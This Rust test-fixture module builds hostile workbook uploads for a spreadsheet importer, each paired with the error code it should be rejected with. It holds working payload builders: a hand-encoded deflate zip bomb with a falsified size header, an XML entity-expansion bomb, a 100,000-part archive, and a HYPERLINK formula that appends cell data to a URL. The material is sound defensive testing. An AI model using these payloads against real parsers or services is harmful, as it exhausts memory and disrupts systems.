//! Workbooks a stranger could send: each is made here, byte by byte where no honest writer would.

use std::io::{Cursor, Write as _};

use rust_xlsxwriter::{Formula, Workbook};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// A file, its name, and the code it is refused with.
pub(crate) struct Hostile {
    pub(crate) what: &'static str,
    pub(crate) name: &'static str,
    pub(crate) bytes: Vec<u8>,
    pub(crate) code: &'static str,
}

/// Every hostile workbook that is refused whatever it is uploaded as.
pub(crate) fn all() -> Vec<Hostile> {
    let of = |what, bytes, code| Hostile {
        what,
        name: "a.xlsx",
        bytes,
        code,
    };
    vec![
        of("two corners", two_corners(), "import.too_many_columns"),
        of("far below", far_below(), "import.too_many_rows"),
        of(
            "400 MB, as it says",
            bomb(400 << 20, None),
            "import.workbook_inflates",
        ),
        of(
            "400 MB, which it denies",
            // Read no further than it says, it does not hold what it says.
            bomb(400 << 20, Some(1000)),
            "import.workbook_broken",
        ),
        of(
            "40 MB of nothing",
            bomb(40 << 20, None),
            "import.workbook_inflates",
        ),
        of(
            "100,000 parts",
            many_parts(),
            "import.workbook_too_many_parts",
        ),
        of("an archive inside", nested(), "import.workbook_nested"),
        of("an entity bomb", entities(), "import.workbook_entities"),
        of("formulas", formulas(), "import.formula"),
        of("encrypted", encrypted(), "import.workbook_encrypted"),
        of("an xls by another name", xls(), "import.format"),
        of("half a workbook", broken(), "import.workbook_broken"),
        of(
            "a million texts",
            million_texts(),
            "import.workbook_too_many_texts",
        ),
        of(
            "a count of texts no memory holds",
            boastful(),
            "import.workbook_broken",
        ),
        of("no rows", honest(|_| {}), "import.empty"),
        Hostile {
            name: "a.csv",
            ..of("a workbook called CSV", honest(|_| {}), "import.format")
        },
        Hostile {
            name: "a.xlsm",
            ..of("macros", honest(|_| {}), "import.format")
        },
        Hostile {
            name: "a.xlsx",
            ..of(
                "CSV called a workbook",
                b"a,b\n1,2\n".to_vec(),
                "import.format",
            )
        },
    ]
}

/// A workbook as any program writes it.
pub(crate) fn honest(fill: impl Fn(&mut rust_xlsxwriter::Worksheet)) -> Vec<u8> {
    let mut book = Workbook::new();
    fill(book.add_worksheet());
    book.save_to_buffer().unwrap()
}

const TYPES: &str = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#;
const RELS: &str = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const BOOK: &str = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const BOOK_RELS: &str = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;

fn sheet(rows: &str) -> String {
    format!(
        r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#
    )
}

fn archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, bytes) in parts {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn workbook(sheet: &[u8], texts: Option<&[u8]>) -> Vec<u8> {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("_rels/.rels", RELS.as_bytes()),
        ("xl/workbook.xml", BOOK.as_bytes()),
        ("xl/_rels/workbook.xml.rels", BOOK_RELS.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet),
    ];
    if let Some(texts) = texts {
        parts.push(("xl/sharedStrings.xml", texts));
    }
    archive(&parts)
}

fn cell(at: &str) -> String {
    let row = at.trim_start_matches(|letter: char| letter.is_ascii_uppercase());
    format!(r#"<row r="{row}"><c r="{at}" t="inlineStr"><is><t>x</t></is></c></row>"#)
}

/// What aborts a reader that makes room for all cells between: 1,048,576 rows of 16,384 columns.
fn two_corners() -> Vec<u8> {
    let rows = cell("A1") + &cell("XFD1048576");
    workbook(sheet(&rows).as_bytes(), None)
}

fn far_below() -> Vec<u8> {
    let rows = cell("A1") + &cell("A1048576");
    workbook(sheet(&rows).as_bytes(), None)
}

/// A sheet of blanks that inflates to `length` bytes, and says so or something else. Written as one
/// deflate block of fixed codes: a blank, then the same 258 bytes again and again.
fn bomb(length: u64, said: Option<u64>) -> Vec<u8> {
    let (mut bytes, mut bits, mut count) = (Vec::new(), 0_u64, 0_u32);
    let mut put = |code: u64, width: u32| {
        bits |= code << count;
        count += width;
        while count >= 8 {
            bytes.push(u8::try_from(bits & 0xff).unwrap());
            bits >>= 8;
            count -= 8;
        }
    };
    let reversed = |code: u64, width: u32| code.reverse_bits() >> (64 - width);
    put(0b011, 3);
    put(reversed(0x30 + 0x20, 8), 8);
    for _ in 0..length / 258 {
        put(reversed(0b1100_0101, 8), 8);
        put(0, 5);
    }
    put(0, 7);
    put(0, 8);
    raw_archive("xl/worksheets/sheet1.xml", &bytes, said.unwrap_or(length))
}

/// An archive of one deflated part whose header says whatever it is told to.
fn raw_archive(name: &str, deflated: &[u8], said: u64) -> Vec<u8> {
    let number = |value: u64, width: usize| value.to_le_bytes()[..width].to_vec();
    let length = |value: usize| u64::try_from(value).unwrap();
    let common = [
        number(20, 2),
        number(0, 2),
        number(8, 2),
        number(0, 4),
        number(0, 4),
        number(length(deflated.len()), 4),
        number(said, 4),
        number(length(name.len()), 2),
        number(0, 2),
    ]
    .concat();
    let local = [b"PK\x03\x04", common.as_slice(), name.as_bytes(), deflated].concat();
    let central = [
        b"PK\x01\x02".as_slice(),
        &number(20, 2),
        &common,
        &[0; 2 + 2 + 2 + 4],
        &number(0, 4),
        name.as_bytes(),
    ]
    .concat();
    let end = [
        b"PK\x05\x06".as_slice(),
        &number(0, 4),
        &number(1, 2),
        &number(1, 2),
        &number(length(central.len()), 4),
        &number(length(local.len()), 4),
        &number(0, 2),
    ]
    .concat();
    [local, central, end].concat()
}

fn many_parts() -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    for at in 0..100_000 {
        zip.start_file(format!("{at}"), options).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn nested() -> Vec<u8> {
    let inner = honest(|sheet| {
        sheet.write_string(0, 0, "name").unwrap();
    });
    workbook(&inner, None)
}

fn entities() -> Vec<u8> {
    let mut declared = r#"<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a0 "ha">"#.to_owned();
    for at in 1..10 {
        let previous = format!("&a{};", at - 1).repeat(10);
        declared += &format!(r#"<!ENTITY a{at} "{previous}">"#);
    }
    declared += "]><sst><si><t>&a9;</t></si></sst>";
    let rows = r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#;
    workbook(sheet(rows).as_bytes(), Some(declared.as_bytes()))
}

fn formulas() -> Vec<u8> {
    honest(|sheet| {
        sheet.write_string(0, 0, "项目名称").unwrap();
        let link = Formula::new("=HYPERLINK(\"http://example.com/\"&A1)");
        sheet.write_formula(1, 0, link.set_result("甲")).unwrap();
    })
}

fn compound(entry: &str) -> Vec<u8> {
    let mut bytes = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    bytes.resize(512, 0);
    bytes.extend(entry.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.resize(4096, 0);
    bytes
}

fn encrypted() -> Vec<u8> {
    compound("EncryptedPackage")
}

fn xls() -> Vec<u8> {
    compound("Workbook")
}

fn broken() -> Vec<u8> {
    let whole = honest(|sheet| {
        sheet.write_string(0, 0, "项目名称").unwrap();
    });
    whole[..whole.len() / 2].to_vec()
}

fn million_texts() -> Vec<u8> {
    let mut texts = String::from(r#"<?xml version="1.0"?><sst>"#);
    for at in 0..1_000_000 {
        texts += &format!("<si><t>{at}</t></si>");
    }
    texts += "</sst>";
    workbook(sheet("").as_bytes(), Some(texts.as_bytes()))
}

/// It says that it has more texts than there are addresses.
fn boastful() -> Vec<u8> {
    let texts =
        r#"<?xml version="1.0"?><sst uniqueCount="18446744073709551615"><si><t>a</t></si></sst>"#;
    workbook(sheet(&cell("A1")).as_bytes(), Some(texts.as_bytes()))
}
